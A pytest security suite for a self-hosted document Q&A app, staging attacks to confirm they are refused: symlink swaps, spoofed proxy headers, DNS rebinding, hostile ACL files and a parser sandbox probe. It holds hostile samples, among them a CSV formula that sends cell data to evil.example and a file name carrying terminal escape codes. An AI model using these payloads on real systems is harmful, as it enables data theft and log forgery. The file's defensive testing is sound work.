"""The privacy promise under attack: one test per attack in docs/security.md.

Attackers: a staff member with write access to an indexed share, an ordinary signed-in user, an
anonymous network client, a malicious document, and a web page the admin's browser visits.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import socket
import sqlite3
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from streamlit.testing.v1 import AppTest

from ingest.acl import AclResolver
from ingest.job import remove_paths, run_ingest
from ingest.sandbox import scrubbed_environment
from rag.index import IndexWriter
from rag.settings import ConfigError, Settings, load_settings
from rag.text import printable
from rag.types import Principal
from tests.conftest import REPO, SAMPLES, free_port, wait_for, wait_for_page
from ui.appdb import AppDB
from ui.auth import LoginThrottle, ThrottledError, add_user, load_users, oidc_user
from ui.jobs import JobManager, PathNotAllowedError

if TYPE_CHECKING:
    from rag.generation.server import BoundedServer

SECRET = "SALARYSECRET7Q"
APP = str(REPO / "ui" / "web" / "app.py")


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def indexed_text(settings: Settings) -> str:
    """Every chunk's text in the index, read straight from its SQLite file."""
    with sqlite3.connect(settings.index_dir / "chunks.sqlite") as conn:
        return "\n".join(r[0] for r in conn.execute("SELECT text FROM chunks"))


def groups_by_name(settings: Settings, model_id: str) -> dict[str, tuple[str, ...]]:
    with IndexWriter.open(settings.index, model_id) as writer:
        return {Path(os.fsdecode(k)).name: d.groups for k, d in writer.live_documents().items()}


# -- 1. a staff member swaps a file for a link between the scan and the parse -------------------------
def test_a_file_swapped_for_a_link_after_the_scan_is_never_read(make_settings, embedder, tmp_path: Path) -> None:
    secret = write(tmp_path / "hr" / "salaries.txt", f"Salaries 2026: {SECRET} earns 250,000 EUR.")
    share = tmp_path / "public"
    bait = write(share / "zz.txt", "Harmless notes about the kitchen rota.")
    settings = make_settings(acl_roots={share: ["everyone"]})

    def swap() -> None:  # the attacker's move, exactly between the scan and the parse
        bait.unlink()
        bait.symlink_to(secret)

    summary = run_ingest(settings, [share], embedder=embedder, progress=False, after_scan=swap)
    assert SECRET not in indexed_text(settings)
    [failed] = summary.files_failed
    assert failed.path.endswith("zz.txt") and "symbolic link" in failed.error and "\n" not in failed.error
    # the attacker restores a regular file with the scanned size and mtime: nothing stolen stays indexed
    bait.unlink()
    bait.write_text("Harmless notes about the kitchen rota.")
    run_ingest(settings, [share], embedder=embedder, progress=False)
    assert SECRET not in indexed_text(settings) and "kitchen rota" in indexed_text(settings)


def test_a_folder_swapped_for_a_link_after_the_scan_is_never_read(make_settings, embedder, tmp_path: Path) -> None:
    write(tmp_path / "hr" / "notes.txt", f"HR notes: {SECRET} is on a performance plan.")
    share = tmp_path / "public"
    write(share / "team" / "notes.txt", "Team notes: the offsite is in May.")
    settings = make_settings(acl_roots={share: ["everyone"]})

    def swap() -> None:
        (share / "team").rename(share / "team-old")
        (share / "team").symlink_to(tmp_path / "hr", target_is_directory=True)

    summary = run_ingest(settings, [share], embedder=embedder, progress=False, after_scan=swap)
    assert SECRET not in indexed_text(settings)
    assert [f.error for f in summary.files_failed] == [
        "a folder above it was replaced by a link or a file after the scan; not read"]


def test_a_fifo_swapped_in_after_the_scan_does_not_hang_the_ingest(make_settings, embedder, tmp_path: Path) -> None:
    share = tmp_path / "public"
    bait = write(share / "zz.txt", "Harmless.")
    settings = make_settings(acl_roots={share: ["everyone"]}, parse_timeout_s=20)

    def swap() -> None:
        bait.unlink()
        os.mkfifo(bait)

    started = time.monotonic()
    summary = run_ingest(settings, [share], embedder=embedder, progress=False, after_scan=swap)
    assert time.monotonic() - started < 15 and "replaced by another file" in summary.files_failed[0].error


# -- 2. a document's groups must not depend on the folder a run was given ------------------------------
def test_groups_are_the_same_whatever_folder_is_ingested(make_settings, embedder, tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    write(docs / "hr" / ".rag-acl", "hr\n")
    write(docs / "hr" / "2024" / "pay.txt", "Pay scales for 2024.")
    write(docs / "handbook" / "lunch.txt", "Lunch is at noon.")
    settings = make_settings(acl_roots={docs: ["everyone"]})
    seen = []
    for folder in (docs, docs / "hr" / "2024", docs):
        run_ingest(settings, [folder], embedder=embedder, progress=False)
        seen.append(groups_by_name(settings, embedder.model_id))
    assert all(s == {"pay.txt": ("hr",), "lunch.txt": ("everyone",)} for s in seen), seen


# -- 3. the settings race that made an anonymous session the admin -------------------------------------
@pytest.mark.slow
def test_settings_from_a_file_hold_under_concurrent_loads(tmp_path: Path) -> None:
    users = tmp_path / "users.yaml"
    config = write(tmp_path / "rag.toml", f'ui_users_file = "{users}"\n')
    wrong: list[object] = []

    def with_file() -> None:
        for _ in range(150):
            if load_settings(config).ui_users_file != users:
                wrong.append("lost the file")

    def without_file() -> None:
        for _ in range(150):
            if load_settings().ui_users_file is not None:
                wrong.append("got another's file")

    threads = [threading.Thread(target=f) for f in (with_file, without_file) * 4]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert not wrong, wrong[:3]


def run_page() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=180)
    at.run()
    return at


@pytest.mark.slow
def test_concurrent_sessions_with_a_toml_only_configuration_never_see_admin_content(
        page_env, served_on, tmp_path: Path, sample_index: Path) -> None:
    users = tmp_path / "users.yaml"
    add_user(users, "ada", "correct horse", "Ada", ["user", "admin"])
    config = write(tmp_path / "rag.toml", f'ui_users_file = "{users}"\nindex_dir = "{sample_index}"\n')
    page_env(RAG_CONFIG=str(config))
    served_on("0.0.0.0")
    pages: list[AppTest] = []
    errors: list[BaseException] = []

    def session() -> None:
        try:
            pages.append(run_page())
        except BaseException as exc:  # noqa: BLE001 - collected and re-raised below
            errors.append(exc)

    threads = [threading.Thread(target=session) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(240)
    assert not errors and len(pages) == 8
    for at in pages:
        assert not at.chat_input and [t.value for t in at.title] == ["Document Q&A"]  # the sign-in form only
        assert not any("Single-user" in i.value for i in at.sidebar.info)


@pytest.mark.slow  # the page loads the models
def test_single_user_mode_is_refused_beyond_loopback(page_env, served_on, sample_index: Path) -> None:
    page_env(RAG_INDEX_DIR=str(sample_index))
    served_on("0.0.0.0")
    at = run_page()
    assert not at.chat_input and "single-user mode is only allowed on 127.0.0.1" in at.error[0].value
    served_on("127.0.0.1")
    assert run_page().chat_input


@pytest.fixture(scope="module")
def sample_index(tmp_path_factory: pytest.TempPathFactory, embedder) -> Path:  # type: ignore[no-untyped-def]
    index = tmp_path_factory.mktemp("security") / "index"
    settings = load_settings(index_dir=index, device="cpu", acl_roots={SAMPLES: ["everyone"]})
    run_ingest(settings, [SAMPLES], embedder=embedder, progress=False)
    return index


# -- 4. secrets stay out of the repository and the image; identity tokens expire ----------------------
def test_streamlit_secrets_are_neither_committed_nor_baked_into_the_image(tmp_path: Path) -> None:
    ignored = subprocess.run(["git", "check-ignore", "-q", ".streamlit/secrets.toml"], cwd=REPO)
    assert ignored.returncode == 0
    assert ".streamlit/secrets.toml" in (REPO / ".dockerignore").read_text().split()
    dockerfile = (REPO / "Dockerfile").read_text()
    assert "COPY .streamlit/ " not in dockerfile and "COPY .streamlit/config.toml" in dockerfile


def test_doctor_warns_about_a_readable_secrets_file(tmp_path: Path) -> None:
    from ui.cli.doctor import check_private

    secrets = write(tmp_path / "secrets.toml", '[auth]\ncookie_secret = "x"\n')
    secrets.chmod(0o644)
    [warning] = check_private(secrets)
    assert warning.status == "warn" and "chmod 600" in warning.detail
    secrets.chmod(0o600)
    assert check_private(secrets) == []


def test_an_expired_identity_token_means_signing_in_again() -> None:
    claims = {"email": "eve@example.org", "groups": ["staff"], "exp": 1000}
    assert oidc_user(claims, "rag-admins", now=999).groups == ("staff",)  # type: ignore[union-attr]
    assert oidc_user(claims, "rag-admins", now=1000) is None


# -- 5. password guessing from fresh sessions ------------------------------------------------------------
def test_throttling_is_per_user_and_address_not_per_session(tmp_path: Path) -> None:
    add_user(tmp_path / "users.yaml", "alice", "correct horse")
    users = load_users(tmp_path / "users.yaml")
    clock = [0.0]
    throttle = LoginThrottle(clock=lambda: clock[0])
    refused = 0
    for guess in range(50):  # a fresh session per guess changes nothing: the throttle is the process's
        try:
            assert throttle.verify(users, "alice", f"guess {guess}", f"10.0.0.{guess % 250}") is None
        except ThrottledError:
            refused += 1
    assert refused >= 44  # five free tries, then a growing wait
    with pytest.raises(ThrottledError):  # even the right password waits its turn
        throttle.verify(users, "alice", "correct horse", "10.0.9.9")
    clock[0] += 301
    assert throttle.verify(users, "alice", "correct horse", "10.0.9.9") is not None


def test_guessing_made_up_names_behind_a_proxy_locks_nobody_else_out(tmp_path: Path) -> None:
    """Behind the documented reverse proxy every request came from the proxy's address: six guesses for
    made-up names locked every account out. Now an unknown address is never throttled, a client's own is
    throttled for its own tries, and spraying many accounts is reported, not answered by refusing everyone."""
    add_user(tmp_path / "users.yaml", "alice", "correct horse")
    add_user(tmp_path / "users.yaml", "bob", "battery staple")
    users = load_users(tmp_path / "users.yaml")
    clock, reported = [0.0], []
    throttle = LoginThrottle(clock=lambda: clock[0], on_spraying=lambda address, n: reported.append((address, n)))
    for name in ("zed", "yan", "xia", "wim", "vic", "una", "tom"):  # X-Forwarded-For missing: address unknown
        assert throttle.verify(users, name, "guess", None) is None
    assert throttle.verify(users, "alice", "correct horse", None) is not None
    for name in ("zed", "yan", "xia", "wim", "vic", "una", "tom"):  # the guesser's own address, as forwarded
        try:
            throttle.verify(users, name, "guess", "203.0.113.7")
        except ThrottledError:
            pass
    with pytest.raises(ThrottledError):  # that address is slowed ...
        throttle.verify(users, "sam", "guess", "203.0.113.7")
    assert throttle.verify(users, "bob", "battery staple", "198.51.100.2") is not None  # ... nobody else
    assert reported == [("203.0.113.7", 5)]  # once per window, for the admins


@pytest.mark.parametrize(("peer", "forwarded", "trusted", "client"), [
    ("203.0.113.7", "10.9.9.9", [], "203.0.113.7"),  # no proxy configured: X-Forwarded-For is the client's lie
    ("10.0.0.2", "203.0.113.7", ["10.0.0.2"], "203.0.113.7"),
    ("::ffff:127.0.0.1", "203.0.113.7", ["127.0.0.1"], "203.0.113.7"),  # IPv4 as a dual-stack server sees it
    ("10.0.0.2", "6.6.6.6, 203.0.113.7", ["10.0.0.0/24"], "203.0.113.7"),  # the left entry is the client's own
    ("10.0.0.2", "203.0.113.7, 10.0.0.9", ["10.0.0.0/24"], "203.0.113.7"),  # two proxies in a row
    ("10.0.0.2", None, ["10.0.0.2"], None),  # the proxy forwarded nobody: unknown, never throttled
    ("10.0.0.2", "not-an-address", ["10.0.0.2"], None),
    (None, "203.0.113.7", ["10.0.0.2"], None),
])
def test_the_client_address_is_believed_only_from_trusted_proxies(peer, forwarded, trusted, client) -> None:  # type: ignore[no-untyped-def]
    from rag.network import client_address

    assert client_address(peer, forwarded, trusted) == client
    assert load_settings(trusted_proxies=["10.0.0.2"], api_trusted_proxies=["10.0.0.3"]).page.trusted_proxies == (
        "10.0.0.2", "10.0.0.3")


def sign_in(at: AppTest, username: str, password: str) -> AppTest:
    at.text_input[0].set_value(username)
    at.text_input[1].set_value(password)
    at.button[0].click().run()
    return at


@pytest.mark.slow
def test_fifty_guesses_from_fresh_sessions_are_slowed_and_signed_in_users_still_get_answers(
        page_env, served_on, tmp_path: Path, sample_index: Path) -> None:
    users = tmp_path / "users.yaml"
    add_user(users, "alice", "correct horse", "Alice", ["user"], ["everyone"])
    add_user(users, "bob", "battery staple", "Bob", ["user"])
    page_env(RAG_INDEX_DIR=str(sample_index), RAG_UI_USERS_FILE=str(users))
    served_on("0.0.0.0")
    bob = sign_in(run_page(), "bob", "battery staple")
    assert bob.chat_input
    started, throttled = time.monotonic(), 0
    for guess in range(50):
        at = sign_in(run_page(), "alice", f"guess {guess}")
        throttled += any("too many failed sign-ins" in e.value for e in at.error)
        assert not at.chat_input
    assert throttled >= 40 and time.monotonic() - started < 120  # 5 free tries, then waits of 1, 2, 4 … s
    bob.chat_input[0].set_value("When is lunch served in the cafeteria?").run()
    assert not bob.exception and any("11:30" in h.value for h in bob.get("html"))


# -- 6. DNS rebinding: a web page points its own name at the single-user page ---------------------------
def websocket_status(port: int, host_header: str) -> int:
    """The status the page's websocket endpoint answers a handshake with, for a given Host header."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall((f"GET /_stcore/stream HTTP/1.1\r\nHost: {host_header}\r\nUpgrade: websocket\r\n"
                      f"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                      f"Sec-WebSocket-Version: 13\r\nOrigin: http://{host_header}\r\n\r\n").encode())
        return int(conn.recv(1024).split(b" ", 2)[1])


def test_a_foreign_host_header_is_refused(tmp_path: Path, model_cache: Path) -> None:
    port = free_port()
    env = {**os.environ, "RAG_INDEX_DIR": str(tmp_path / "index"), "RAG_MODEL_CACHE_DIR": str(model_cache),
           "RAG_APP_DB": str(tmp_path / "app.sqlite"), "RAG_DEVICE": "cpu"}
    process = subprocess.Popen([sys.executable, "-m", "ui.cli", "ui", "--port", str(port)], cwd=tmp_path, env=env,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        wait_for_page(f"http://127.0.0.1:{port}", process)
        assert websocket_status(port, f"attacker.example:{port}") == 403
        assert websocket_status(port, f"localhost:{port}") == 101
    finally:
        process.terminate()
        process.wait(30)


# -- 7. a malicious document exploits a parser: the worker has nothing to reach -------------------------
PROBE = """
import json, os, socket, sys
from ingest.sandbox import confine, limit_resources
report = confine(sys.argv[1])
limit_resources(2**31, 60)
out = {"sandbox": report.__dict__, "env": sorted(os.environ)}
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[2])), timeout=3).close(); out["connect"] = "connected"
except OSError as exc:
    out["connect"] = str(exc)
for name, path in (("write", sys.argv[3]), ("overwrite", sys.argv[4])):
    try:
        with open(path, "w") as f:
            f.write("x")
        out[name] = "written"
    except OSError as exc:
        out[name] = str(exc)
try:
    out["read"] = open(sys.argv[5]).read()
except OSError as exc:
    out["read"] = str(exc)
print(json.dumps(out))
"""


def test_a_parser_process_cannot_connect_write_or_read_other_files(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from rag.embedding import default_embedding_folder

    monkeypatch.setenv("RAG_GENERATOR_API_KEY", "parent-secret-token")
    listener = socket.create_server(("127.0.0.1", 0))
    index = write(tmp_path / "index" / "chunks.sqlite", "the index")
    secret = write(tmp_path / "hr" / "salaries.txt", SECRET)
    done = subprocess.run(
        [sys.executable, "-c", PROBE, str(default_embedding_folder()), str(listener.getsockname()[1]),
         str(tmp_path / "new.txt"), str(index), str(secret)],
        env=scrubbed_environment(sys.path), capture_output=True, text=True, timeout=60, cwd="/")
    listener.close()
    out = json.loads(done.stdout)
    assert out["sandbox"]["network"] and out["sandbox"]["landlock"] >= 1, out["sandbox"]
    assert out["connect"] != "connected" and out["write"] != "written" and out["overwrite"] != "written", out
    assert out["read"] != SECRET and index.read_text() == "the index" and not (tmp_path / "new.txt").exists()
    assert "RAG_GENERATOR_API_KEY" not in out["env"] and not any("PROXY" in v.upper() for v in out["env"])


# -- 8. a hostile .rag-acl ---------------------------------------------------------------------------------
def test_a_hostile_acl_file_closes_its_folder_without_hanging(make_settings, embedder, tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    write(docs / "fifo" / "a.txt", "Behind a FIFO.")
    os.mkfifo(docs / "fifo" / ".rag-acl")
    write(docs / "zero" / "b.txt", "Behind /dev/zero.")
    (docs / "zero" / ".rag-acl").symlink_to("/dev/zero")
    write(docs / "huge" / "c.txt", "Behind a huge file.")
    write(docs / "huge" / ".rag-acl", "everyone\n" * 20_000)
    write(docs / "fine" / "d.txt", "Open to all.")
    settings = make_settings(acl_roots={docs: ["everyone"]})
    started = time.monotonic()
    summary = run_ingest(settings, [docs], embedder=embedder, progress=False)
    assert time.monotonic() - started < 60
    assert groups_by_name(settings, embedder.model_id) == {"a.txt": (), "b.txt": (), "c.txt": (), "d.txt": ("everyone",)}
    reported = {Path(f.path).parent.name: f.error for f in summary.files_failed}
    assert set(reported) == {"fifo", "zero", "huge"} and all("admins only" in e for e in reported.values())


# -- 9. formula injection in the CSV exports ----------------------------------------------------------------
@pytest.mark.parametrize("payload", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)",
                                     "\t=1+1", "\r=1+1"])
def test_csv_exports_never_start_a_cell_with_a_formula(tmp_path: Path, payload: str) -> None:
    db = AppDB(tmp_path / "app.sqlite")
    db.add_feedback(payload, payload, payload, [], -1, payload)
    db.audit(payload, payload, payload, "answered", [])
    for export in (db.feedback_csv(), db.audit_csv()):
        for row in csv.DictReader(io.StringIO(export)):
            for column in ("username", "question"):
                assert row[column] == "'" + payload


# -- 10. file modes ------------------------------------------------------------------------------------------
@pytest.mark.slow
def test_index_app_database_and_users_file_are_private(tmp_path: Path, model_cache: Path) -> None:
    docs = write(tmp_path / "docs" / "a.txt", "Private text.").parent
    env = {**os.environ, "RAG_DEVICE": "cpu", "RAG_MODEL_CACHE_DIR": str(model_cache)}
    subprocess.run(["sh", "-c", f'umask 022 && "{sys.executable}" -m ui.cli ingest "{docs}" --index "{tmp_path}/index"'],
                   env=env, check=True, capture_output=True, timeout=300)
    subprocess.run(["sh", "-c", f'umask 022 && printf "long password\\n" | "{sys.executable}" -m ui.cli user add ada '
                    f'--users-file "{tmp_path}/etc/users.yaml" --password-stdin'], env=env, check=True,
                   capture_output=True, timeout=120)
    AppDB(tmp_path / "app" / "app.sqlite").audit("ada", "q", "q", "answered", [])
    assert stat.S_IMODE((tmp_path / "index").stat().st_mode) == 0o700
    assert stat.S_IMODE((tmp_path / "app").stat().st_mode) == 0o700
    for path in [*(tmp_path / "index").iterdir(), tmp_path / "app" / "app.sqlite", tmp_path / "etc" / "users.yaml"]:
        if path.name != "write.lock":
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path


# -- 11. abstention must not reveal word statistics of unreadable documents ----------------------------
def test_unreadable_documents_do_not_change_another_groups_relevance(make_settings, embedder, tmp_path: Path) -> None:
    from rag.index import IndexReader
    from rag.qa import QAService
    from rag.search import Searcher

    public = tmp_path / "public"
    write(public / "lunch.txt", "Lunch is served in the cafeteria from 11:30 to 14:00.")
    write(public / "parking.txt", "Parking permits are issued by the facilities desk.")
    hr = tmp_path / "hr"
    write(hr / ".rag-acl", "hr\n")
    for i in range(30):
        write(hr / f"memo{i}.txt", f"Memo {i}: the zorbium project budget review, zorbium milestones.")
    staff = Principal.member_of(["staff"])
    question = "When is lunch served in the zorbium cafeteria?"
    seen = []
    for name, folders in (("without", [public]), ("with", [public, hr])):
        settings = make_settings(index_dir=tmp_path / name, acl_roots={public: ["everyone"]}, keyword_prune_above=0)
        run_ingest(settings, folders, embedder=embedder, progress=False)
        searcher = Searcher(embedder, IndexReader(settings.index), settings.search)
        service = QAService(searcher, None, settings.answers)  # type: ignore[arg-type]  # relevance needs no generator
        retrieved = service.retrieve(question, 2, "hybrid", staff)
        long_query = searcher.search("lunch cafeteria zorbium budget parking served", 2, "keyword", staff)
        seen.append((retrieved.relevance, [h.path for h in retrieved.hits], [h.path for h in long_query.hits]))
    # the same passages and words; the relevance equal but for the last float bits, which int8 embeddings
    # vary with what else was in the ingest's batch (seen on AVX-512 VNNI CPUs)
    assert seen[0][1:] == seen[1][1:] and seen[0][0] == pytest.approx(seen[1][0], abs=1e-6)


# -- 12. rag serve-llm and the HTTP generator ---------------------------------------------------------
class _EchoGenerator:
    """Stands in for the model behind the real server (the server's limits are what is tested)."""

    model_id = "echo"

    def stream(self, prompt: str, params: object) -> Iterator[str]:
        yield "ok"

    def warm_up(self) -> None:
        pass


@contextmanager
def llm_server(token: str = "", max_connections: int = 32) -> Iterator[BoundedServer]:
    from rag.generation.server import make_server

    server = make_server(_EchoGenerator(), "127.0.0.1", 0, token, max_connections)  # type: ignore[arg-type]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def raw_request(port: int, head: str, body: bytes = b"", timeout: float = 10) -> int:
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as conn:
        conn.sendall(head.encode() + body)
        return int(conn.recv(4096).split(b" ", 2)[1])


def post(port: int, body: dict | str, headers: str = "") -> int:
    data = (body if isinstance(body, str) else json.dumps(body)).encode()
    return raw_request(port, f"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Length: {len(data)}\r\n{headers}\r\n",
                       data)


def test_serve_llm_refuses_bad_requests() -> None:
    with llm_server() as server:
        port = server.server_address[1]
        assert raw_request(port, "POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n") == 400
        assert raw_request(port, "POST /v1/completions HTTP/1.1\r\nHost: x\r\n\r\n") == 411
        assert post(port, {"prompt": "hi", "max_tokens": -5}) == 400
        assert post(port, '{"prompt": "hi", "temperature": NaN}') == 400
        assert post(port, {"prompt": "hi", "temperature": 9}) == 400
        assert post(port, {"prompt": "hi", "stop": ["a", "b", "c", "d", "e"]}) == 400  # OpenAI's four at most
        assert post(port, {"prompt": "hi", "stop": [7]}) == 400
        assert post(port, {"prompt": "hi", "stop": "x" * 201}) == 400
        assert post(port, {"prompt": "hi", "max_tokens": 5, "stop": "\n"}) == 200


def test_serve_llm_bounds_connections_and_requires_its_token() -> None:
    with llm_server(token="s3cret", max_connections=2) as server:
        port = server.server_address[1]
        # one request at a time: a client may read its answer before the server thread has given its slot back,
        # and a third connection in that instant is refused (the bound doing its job; CI saw it under load)
        assert post(port, {"prompt": "hi"}) == 401
        wait_for(lambda: server.active_connections == 0)
        assert post(port, {"prompt": "hi"}, "Authorization: Bearer wrong\r\n") == 401
        wait_for(lambda: server.active_connections == 0)
        assert post(port, {"prompt": "hi"}, "Authorization: Bearer s3cret\r\n") == 200
        wait_for(lambda: server.active_connections == 0)  # the finished clients' slots are back
        idle = [socket.create_connection(("127.0.0.1", port)) for _ in range(2)]  # clients that never send
        wait_for(lambda: server.active_connections == 2)
        try:
            assert raw_request(port, "GET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n") == 503
        finally:
            for conn in idle:
                conn.close()
    from rag.generation.server import make_server

    with pytest.raises(ConfigError, match="RAG_LLM_SERVER_TOKEN"):
        make_server(_EchoGenerator(), "0.0.0.0", 0)  # type: ignore[arg-type]


def test_the_http_generator_checks_the_address_it_actually_reached(monkeypatch: pytest.MonkeyPatch,
                                                                   make_settings) -> None:
    import rag.generation.http as http_generation
    from rag.generation import GenerationParams, make_generator

    received: list[str] = []
    with llm_server() as server:
        port = server.server_address[1]
        settings = make_settings(generator_backend="http", generator_url=f"http://127.0.0.1:{port}/v1")
        generator = make_generator(settings.generation)  # the start-up check passes: loopback
        real = http_generation.is_private_address
        # the name now leads somewhere else (a changed DNS record): the connection's peer is what counts
        monkeypatch.setattr(http_generation, "is_private_address", lambda address: received.append(address) or False)
        with pytest.raises(ConnectionError, match="refused, nothing was sent"):
            list(generator.stream("secret passage", GenerationParams(5, 0.0, 10)))
        assert received == ["127.0.0.1"]
        monkeypatch.setattr(http_generation, "is_private_address", real)
        assert "".join(generator.stream("hello", GenerationParams(5, 0.0, 10))) == "ok"


# -- 13. error texts: text, not Markdown; details for admins only --------------------------------------
def test_error_details_are_for_admins_and_shown_as_text(page_env, served_on, tmp_path: Path, sample_index: Path) -> None:
    from ui.auth import User
    from ui.web.page import friendly_error

    exc = ConnectionError("the generator server at http://10.0.0.5:8000/v1 cannot be reached ([x](http://evil))")
    staff, admin = User("bob", "Bob"), User("ada", "Ada", ("user", "admin"))
    assert "10.0.0.5" not in friendly_error(exc, staff) and "10.0.0.5" in friendly_error(exc, admin)
    users = tmp_path / "users.yaml"
    add_user(users, "bob", "battery staple", "Bob", ["user"])
    page_env(RAG_INDEX_DIR=str(sample_index), RAG_UI_USERS_FILE=str(users), RAG_GENERATOR_BACKEND="http",
             RAG_GENERATOR_URL=f"http://127.0.0.1:{free_port()}/v1")
    served_on("0.0.0.0")
    at = sign_in(run_page(), "bob", "battery staple")
    at.chat_input[0].set_value("When is lunch served in the cafeteria?").run()
    shown = " ".join(h.value for h in at.get("html"))
    assert "unreachable" in shown and "127.0.0.1" not in shown and not at.warning


# -- 14. control characters in names ----------------------------------------------------------------------
@pytest.mark.slow
def test_control_characters_in_file_names_never_reach_the_terminal(tmp_path: Path, model_cache: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "evil\x1b[2J\nINFO forged line.txt").write_text("")  # empty: reported as failed, with its name
    env = {**os.environ, "RAG_DEVICE": "cpu", "RAG_MODEL_CACHE_DIR": str(model_cache)}
    done = subprocess.run([sys.executable, "-m", "ui.cli", "ingest", str(docs), "--index", str(tmp_path / "index")],
                          env=env, capture_output=True, text=True, timeout=300)
    assert "\x1b" not in done.stdout + done.stderr
    [line] = [line for line in done.stdout.splitlines() if "failed:" in line]
    assert "evil\\x1b[2J\\x0aINFO forged line.txt" in line
    assert printable("a\u202eb\x07") == "a\\u202eb\\x07"


# -- 15. a removal sticks, and only inside the allowed folders ------------------------------------------
def test_a_removed_document_stays_removed_until_restored(make_settings, embedder, tmp_path: Path) -> None:
    from ingest.job import restore_paths

    docs = tmp_path / "docs"
    write(docs / "keep.txt", "Kept.")
    gone = write(docs / "old-policy.txt", "The old travel policy.")
    settings = make_settings(ui_allowed_roots=[docs])
    run_ingest(settings, [docs], embedder=embedder, progress=False)
    remove_paths(settings.index, [str(gone)], embedder.model_id, "ada")
    summary = run_ingest(settings, [docs], embedder=embedder, progress=False)  # the scheduled run
    assert summary.files_excluded == 1 and set(groups_by_name(settings, embedder.model_id)) == {"keep.txt"}
    assert restore_paths(settings.index, [str(gone)], embedder.model_id) == 1
    run_ingest(settings, [docs], embedder=embedder, progress=False)
    assert set(groups_by_name(settings, embedder.model_id)) == {"keep.txt", "old-policy.txt"}
    jobs = JobManager(settings, embedder, AppDB(tmp_path / "app.sqlite"))
    for outside in ("/etc/passwd", str(tmp_path / "elsewhere"), str(docs / ".." / "x")):
        with pytest.raises(PathNotAllowedError):
            jobs.start_removal([outside], "ada")


# -- 16. groups given as a string ---------------------------------------------------------------------------
def test_groups_given_as_a_string_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "users.yaml"
    add_user(path, "bob", "battery staple", groups=["sales"])
    path.write_text(path.read_text().replace("- sales", "").replace("groups:", "groups: hr"))
    with pytest.raises(ConfigError, match="must be a list"):
        load_users(path)
    with pytest.raises(ConfigError, match="must be a list"):
        oidc_user({"email": "eve@example.org", "groups": "rag-admins"}, "rag-admins", now=0)
    assert AclResolver({}).groups_for("/nonexistent/x.txt") == ()


def test_a_folder_swapped_for_a_link_after_the_pages_check_is_not_indexed(make_settings, embedder, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Staff with write access to a share: the admin asks to index share/team (inside the allowed roots);
    between the check and the walk, team becomes a link to a private folder outside them."""
    from ui.appdb import AppDB
    from ui.jobs import JobManager, allowed_path

    share, private = tmp_path / "share", tmp_path / "private"
    write(share / "team" / "notes.txt", "Team notes: the offsite is in May.")
    write(private / "salaries.txt", "PRIVATEMARK salaries of the board.")
    settings = make_settings(ui_allowed_roots=[share])
    jobs = JobManager(settings, embedder, AppDB(tmp_path / "app.sqlite"))
    checked = allowed_path(str(share / "team"), settings.page.allowed_roots)  # the page's check passes
    shutil.rmtree(share / "team")
    (share / "team").symlink_to(private, target_is_directory=True)  # ... then the swap
    job = jobs._start("ada", "ingest", [str(checked)])
    wait_for(lambda: not job.running, 60)
    assert "no longer inside the folders" in job.error
    # and a file whose folder on the way is swapped after the scan is never opened through the link
    from ingest.walk import FileChangedError, open_verified

    write(share / "docs" / "a.txt", "a")
    st = os.stat(share / "docs" / "a.txt")
    os.rename(share / "docs", share / "docs-old")
    (share / "docs").symlink_to(share / "docs-old", target_is_directory=True)
    with pytest.raises(FileChangedError):
        open_verified(str(share / "docs"), str(share / "docs" / "a.txt"), st.st_dev, st.st_ino)
